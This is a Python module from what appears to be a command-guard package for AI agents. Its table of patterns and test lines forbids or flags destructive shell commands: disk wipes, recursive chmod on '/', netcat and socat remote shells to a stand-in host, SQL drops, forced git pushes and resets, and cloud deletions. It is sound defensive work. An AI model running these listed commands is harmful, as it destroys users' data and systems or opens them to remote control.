"""Commands that destroy data or rewrite history: asked about or forbidden before any rule of the project's own.

A data table: one row per way of destroying, with a command line that it stops and a similar one that it lets pass. The
rows see the words of one unwrapped command, as a tuple: so mypy rejects a comparison with a list, which would never be
true.
"""

from __future__ import annotations

import itertools
import posixpath
import re

from govhooks.core.record import Record
from govhooks.knowledge.agents.prefixes import FORBIDDEN, PROMPT

TYPE_CHECKING = False
if TYPE_CHECKING:
    Words = tuple[str, ...]
    Found = tuple[str, str]


class Row(Record):
    """A destructive command: one of `programs`, whose first words are one of `verbs`, with words like `word` and
    `also`.

    An empty field is no condition. `word`, `also` and `unless` are regular expressions for a whole word; `unless` is
    for one that makes the command harmless. `fires` and `passes` are command lines for the tests.
    """

    programs: str
    why: str
    fires: tuple[str, ...]
    passes: tuple[str, ...]
    verbs: str = ""
    word: str = ""
    also: str = ""
    unless: str = ""
    decision: str = PROMPT

    def means(self, rest: Words) -> bool:
        """Whether this row describes a command with these words after its name."""
        if self.verbs:
            verb = next((one for one in self.phrases if rest[: len(one)] == one), None)
            if verb is None:
                return False
            rest = rest[len(verb) :]
        # Whatever follows -- is a path, even if it looks like an option.
        options = rest[: rest.index("--")] if "--" in rest else rest
        return (
            (not self.word or _any(self.word, rest))
            and (not self.also or _any(self.also, rest))
            and not (self.unless and _any(self.unless, options))
        )

    @property
    def phrases(self) -> tuple[Words, ...]:
        """The verbs in words: "stash drop, stash clear"."""
        return tuple(tuple(phrase.split()) for phrase in self.verbs.split(","))


def _any(expression: str, words: Words) -> bool:
    found = re.compile(expression)
    return any(found.fullmatch(word) for word in words)


_HOME = r"/|/\*|~|~/|~/\*|\$HOME|/(?:bin|boot|dev|etc|home|lib|opt|root|sbin|srv|sys|usr|var|Users|System|Library)(?:/\*|/)?"
_FORCE = r"-[A-Za-z]*f[A-Za-z]*|--forc?e?"
# A whole work tree, in git's notation.
_ALL = r"\.|\./|(?:\.\./?)+|:/|:|\*|:\(top\)"
_SQL = r"(?is).*(?:\bDROP\s+(?:DATABASE|SCHEMA|TABLE)\b|\bTRUNCATE\s+(?:TABLE\s+)?\w|\bDELETE\s+FROM\s+[\w.\"`]+\s*(?:;|$)).*"
_CHECKS = "it bypasses the checks"
_THROWS = "it discards changes"
_HISTORY = "it rewrites history"
_BACK = "it deletes what git needs to undo a mistake"

ROWS: tuple[Row, ...] = (
    Row("mkfs fdisk sfdisk gdisk parted wipefs blkdiscard mkswap badblocks cryptsetup zpool lvremove vgremove pvremove format.com", "it destroys the contents of a disk",
        ("mkfs.ext4 /dev/sda", "fdisk /dev/sda"), ("lsblk /dev/sda", "fdisks"), decision=FORBIDDEN),
    Row("dd", "dd writes over a device", ("dd if=/dev/zero of=/dev/sda",), ("dd if=a of=/dev/null", "dd if=a of=/dev/stdout", "dd if=/dev/zero of=b"),
        word=r"of=/dev/(?!null$|stdout$).*", decision=FORBIDDEN),
    Row("diskutil", "diskutil destroys the contents of a disk", ("diskutil eraseDisk JHFS+ x disk2", "diskutil partitionDisk disk2"), ("diskutil list",),
        word=r"(?is).*(?:erase|partition).*", decision=FORBIDDEN),
    Row("chmod chown chgrp", "it changes a whole system or home folder", ("chmod -R 777 /", "chown -R me ~"), ("chmod -R u+w build", "chmod 755 /etc"),
        word=r"-[A-Za-z]*R[A-Za-z]*|--recursive", also=_HOME, decision=FORBIDDEN),
    Row("nc ncat netcat socat", "it lets the network run a program", ("nc -e sh x.example 9", "ncat --sh-exec id x.example 9", "socat TCP-LISTEN:9 EXEC:sh"), ("nc -z localhost 80",),
        word=r"(?s)-[A-Za-z]*[ec]|--(?:sh-)?exec.*|EXEC:.*|SYSTEM:.*|.*[,!](?:EXEC|SYSTEM):.*"),
    Row("shutdown reboot halt poweroff", "it shuts the machine down", ("shutdown -h now", "reboot"), ("uptime",)),
    Row("crontab", "crontab -r deletes all jobs", ("crontab -r",), ("crontab -l",), word="-r"),
    Row("dropdb dropuser", "it deletes from a database server", ("dropdb app",), ("createdb app",)),
    Row("psql mysql mariadb sqlite3 sqlcmd clickhouse-client duckdb bq snow", "the statement deletes data",
        ("psql -c 'DROP TABLE users'", "psql -c 'drop database app'", "sqlite3 a.db 'DELETE FROM users;'", "mysql -e 'truncate table x'"),
        ("psql -c 'SELECT 1'", "sqlite3 a.db 'DELETE FROM users WHERE id = 1;'", "psql -c 'DROP INDEX x'"), word=_SQL),
    Row("redis-cli valkey-cli", "it empties the database", ("redis-cli FLUSHALL", "redis-cli -n 1 flushdb"), ("redis-cli ping",), word="(?i)flushall|flushdb"),
    Row("mongo mongosh", "it drops data", ("mongosh app --eval 'db.dropDatabase()'", "mongosh app --eval 'db.users.drop()'"), ("mongosh app --eval 'db.users.find()'",),
        word=r"(?s).*(?:dropDatabase|\.drop\().*"),
    Row("pre-commit prek", "it removes the checks", ("pre-commit uninstall", "prek uninstall -t pre-push"), ("pre-commit install", "pre-commit run --all-files"), verbs="uninstall"),
    # git, in the order of `git help`.
    Row("git", _CHECKS, ("git commit -m x --no-verify", "git push --no-verify"), ("git commit -m x", "git merge --no-ff x"),
        verbs="commit, push, merge, rebase, am, cherry-pick, revert", word="--no-verif?y?"),
    Row("git", _CHECKS, ("git commit -n -m x", "git commit -an -m x"), ("git commit -am n", "git commit -uno -m x", "git commit -S -m 'no'"),
        verbs="commit", word=r"-[aeiopqsvz]*n[A-Za-z]*"),
    Row("git", "core.hooksPath switches the checks off", ("git config core.hooksPath /dev/null", "git config --global core.hookspath x"), ("git config user.name x",),
        verbs="config", word=r"(?is)core\.hookspath.*"),
    Row("git", "a forced push rewrites published history",
        ("git push -f", "git push --force origin main", "git push --force-with-lease=main:1", "git push --mirror", "git push --prune origin", "git push origin +main"),
        ("git push", "git push -u origin main", "git push --follow-tags"),
        verbs="push", word=r"(?s)-[A-Za-z]*f[A-Za-z]*|--forc?e?|--force-w[a-z-]*(?:=.*)?|--mi[ror]*|--prune?|\+.*"),
    Row("git", "it deletes a branch or tag of the remote", ("git push origin --delete x", "git push -d origin x", "git push origin :x"), ("git push origin x:x", "git push origin x"),
        verbs="push", word=r"(?s)-[A-Za-z]*d[A-Za-z]*|--del[et]*|:.+"),
    Row("git", _HISTORY, ("git filter-branch x", "git filter-repo --path x", "git rebase main"),
        ("git rebase --abort", "git rebase --continue", "git rebase --skip", "git rebase --quit", "git rebase --show-current-patch"),
        verbs="filter-branch, filter-repo, rebase", unless="--(?:abort|continue|skip|quit|show-current-patch)"),
    Row("git", _HISTORY, ("git replace a b",), ("git replace -l", "git replace --list"), verbs="replace", unless="-l|--list"),
    Row("git", "it moves or deletes refs by hand", ("git update-ref -d refs/heads/x", "git update-ref refs/heads/x y"), ("git show-ref",), verbs="update-ref"),
    Row("git", "it rewrites the last commit", ("git commit --amend --no-edit",), ("git commit -m x",), verbs="commit", word="--am[end]*"),
    Row("git", _THROWS, ("git reset --hard", "git reset --hard HEAD~5", "git reset --merge", "git reset --keep x"), ("git reset --soft HEAD~1", "git reset HEAD x"),
        verbs="reset", word="--har?d?|--mer?g?e?|--kee?p?"),
    Row("git", "it deletes files that git does not track", ("git clean -fdx", "git clean --force"), ("git clean -n", "git clean -nd"), verbs="clean", word=_FORCE),
    Row("git", _THROWS, ("git checkout -f", "git checkout --force main", "git switch -f main", "git switch --discard-changes main"), ("git checkout main", "git switch -c x", "git checkout -b x"),
        verbs="checkout, switch", word=rf"{_FORCE}|--dis[a-z-]*"),
    Row("git", _THROWS, ("git checkout .", "git checkout ./", "git checkout -- .", "git checkout HEAD -- .", "git checkout HEAD .", "git checkout :/"),
        ("git checkout -- src/app.py", "git checkout src/app.py", "git checkout -", "git checkout main"),
        verbs="checkout", word=_ALL),
    Row("git", _THROWS, ("git restore .", "git restore ./", "git restore --source=HEAD .", "git restore :/"),
        ("git restore --staged .", "git restore -S .", "git restore src/app.py", "git restore --staged src/app.py"),
        verbs="restore", word=_ALL, unless="-[A-VX-Za-z]*S[A-VX-Za-z]*|--staged"),
    Row("git", _THROWS, ("git restore -SW .", "git restore --worktree --staged ."), ("git restore -W x", "git restore --staged ."), verbs="restore", word=_ALL, also="-[A-Za-z]*W[A-Za-z]*|--work[tre]*"),
    Row("git", "it deletes a branch that may not be merged", ("git branch -D x", "git branch -rD x"), ("git branch -d merged", "git branch --list"), verbs="branch", word=r"-[A-Za-z]*D[A-Za-z]*"),
    Row("git", "it deletes a branch that may not be merged", ("git branch --delete --force x", "git branch -df x"), ("git branch -d x", "git branch -f x main"),
        verbs="branch", word=_FORCE, also=r"--del[et]*|-[A-Za-z]*d[A-Za-z]*"),
    Row("git", "it moves or deletes a tag", ("git tag -d v1", "git tag --delete v1", "git tag -f v1", "git tag --force v1"), ("git tag v1", "git tag -a v1 -m d", "git tag -l"),
        verbs="tag", word=rf"{_FORCE}|-d|--del[et]*"),
    Row("git", "it discards a stash", ("git stash drop", "git stash clear", "git stash drop stash@{0}"), ("git stash", "git stash pop", "git stash list", "git stash push -m drop"),
        verbs="stash drop, stash clear"),
    Row("git", _BACK, ("git reflog expire --expire=now --all", "git reflog delete HEAD@{1}"), ("git reflog", "git reflog show main"), verbs="reflog expire, reflog delete"),
    Row("git", _BACK, ("git gc --prune=now", "git gc --prune=all", "git prune --expire=now"), ("git gc", "git gc --auto", "git prune -n"), verbs="gc, prune",
        word=r"(?s)--prune=(?:now|all).*|--expire=now.*"),
)  # fmt: skip

_BY_PROGRAM: dict[str, list[Row]] = {}
for _row in ROWS:
    for _program in _row.programs.split():
        _BY_PROGRAM.setdefault(_program, []).append(_row)


def judge(words: Words) -> Found | None:
    """Judge a command without any policy; None if there is nothing to object to."""
    name = words[0].replace("\\", "/").rstrip("/").rsplit("/", 1)[-1].removesuffix(".exe")
    rest = words[1:]
    if name in REMOVERS:
        return _delete(name, rest)
    for row in _BY_PROGRAM.get("mkfs" if name.startswith("mkfs.") else name, ()):
        if row.means(rest):
            return row.decision, row.why
    return _cloud(name, rest)


# Programs other than `rm` that delete files.
DELETERS = frozenset("unlink shred srm wipe trash trash-put rimraf del-cli zf_rm grm".split())
# How a program with another purpose can delete files: the word that does it, a command line that does, and one that
# does not.
ALSO_DELETE: dict[str, tuple[str, str, str]] = {
    "gio": (r"trash|remove", "gio trash x", "gio open x"),
    "cmake": (r"rm|remove|remove_directory", "cmake -E rm x", "cmake --build build"),
    "rsync": (r"--del\S*|--remove-source-files", "rsync -a --delete a b", "rsync -a a b"),
    "tar": (r"--remove-files", "tar -cf x.tar --remove-files src", "tar -cf x.tar src"),
    "zip": (r"-[A-Za-z]*m[A-Za-z]*|--move", "zip -m x.zip a", "zip x.zip a"),
    "7z": (r"-sdel", "7z a -sdel x.7z a", "7z a x.7z a"),
}


def deletes(words: Words) -> str:
    """How a command other than `rm` deletes files; "" if it does not. Asked if the policy stops `rm`."""
    name = words[0].replace("\\", "/").rsplit("/", 1)[-1]
    rest = tuple(word for word in words[1:] if not word.startswith("-"))
    runner = name in ("npx", "bunx", "pnpx") or (
        name in ("npm", "pnpm", "yarn", "bun") and rest[:1] and rest[0] in ("exec", "dlx", "x")
    )
    if runner:
        rest = rest if name in ("npx", "bunx", "pnpx") else rest[1:]
        inner = rest[0].partition("@")[0] if rest else ""
        return f"{inner} deletes files" if inner in DELETERS or (inner == "shx" and "rm" in rest) else ""
    if name in DELETERS:
        return f"{name} deletes files"
    if name in ALSO_DELETE and (name != "cmake" or "-E" in words) and _any(ALSO_DELETE[name][0], words[1:]):
        return f"{name} deletes files"
    return ""


REMOVERS = ("rm", "rmdir", "unlink", "shred", "srm", "trash", "del", "Remove-Item")
_RECURSIVE = r"-[A-Za-z]*[rR][A-Za-z]*|--rec[ursive]*"


def _delete(name: str, rest: Words) -> Found | None:
    deep = name == "rm" and _any(_RECURSIVE, rest)
    for word in rest:
        if word.startswith("-"):
            continue
        word = _plain(word)
        if re.fullmatch(_HOME, word) and (deep or name != "rm"):
            return FORBIDDEN, f"{name} on {word}: a whole system or home folder"
        if not deep:
            continue
        if word in (".", "./", "*", "./*", ".git", "./.git") or word.startswith(("..", "~")):
            return PROMPT, f"{name} -r on {word}: it may delete far more than meant"
        if word.startswith("/") and not re.match(r"(/var)?/tmp/", word):
            return PROMPT, f"{name} -r on {word}, outside the repository"
    return None


def _plain(path: str) -> str:
    """A path without detours: build/../../.. becomes ../.., and //home/. becomes /home."""
    if "/." not in path and "//" not in path:
        return path
    plain = posixpath.normpath(path)
    return "/" + plain.lstrip("/") if plain.startswith("/") else plain


# Verbs of cloud, cluster and registry tools among the first words; * stands for the rest of one. Each has a near miss.
CLOUDS: dict[str, tuple[str, str]] = {
    "aws": ("delete delete-* terminate-* remove-* purge-* destroy-* deregister-* release-* rb", "aws s3 ls"),
    "gcloud": ("delete destroy remove-*", "gcloud projects list"),
    "gsutil": ("rm rb", "gsutil ls"),
    "az": ("delete purge remove", "az group list"),
    "kubectl": ("delete drain", "kubectl get pods"),
    "oc": ("delete", "oc get pods"),
    "helm": ("uninstall delete", "helm upgrade app chart"),
    "terraform": ("destroy -destroy", "terraform plan"),
    "tofu": ("destroy -destroy", "tofu plan"),
    "pulumi": ("destroy", "pulumi preview"),
    "cdk": ("destroy", "cdk diff"),
    "sam": ("delete", "sam build"),
    "serverless": ("remove", "serverless deploy"),
    "heroku": ("*:destroy pg:reset", "heroku pg:info"),
    "fly": ("destroy delete", "fly status"),
    "flyctl": ("destroy delete", "flyctl status"),
    "vercel": ("remove rm", "vercel ls"),
    "doctl": ("delete destroy", "doctl compute droplet list"),
    "gh": ("delete", "gh pr list"),
    "docker": ("prune", "docker ps"),
    "podman": ("prune", "podman ps"),
    "npm": ("unpublish", "npm publish --dry-run"),
    "cargo": ("yank", "cargo build"),
    "eksctl": ("delete", "eksctl get cluster"),
    "supabase": ("delete reset", "supabase start"),
    "wrangler": ("delete", "wrangler dev"),
}


def _cloud(name: str, rest: Words) -> Found | None:
    verbs = CLOUDS.get(name)
    plain = tuple(word for word in rest if not word.startswith("--"))
    if verbs and any(_is_verb(word, verbs[0].split()) for word in plain[:5]):
        return PROMPT, f"{name} deletes what is not in the repository"
    if name == "aws" and ("s3", "rm") in itertools.pairwise(plain):
        return PROMPT, "aws s3 rm deletes what is not in the repository"
    return None


def _is_verb(word: str, verbs: list[str]) -> bool:
    if word in verbs:
        return True
    return any(
        len(word) >= len(verb) and word.startswith(verb.partition("*")[0]) and word.endswith(verb.partition("*")[2])
        for verb in verbs
        if "*" in verb
    )
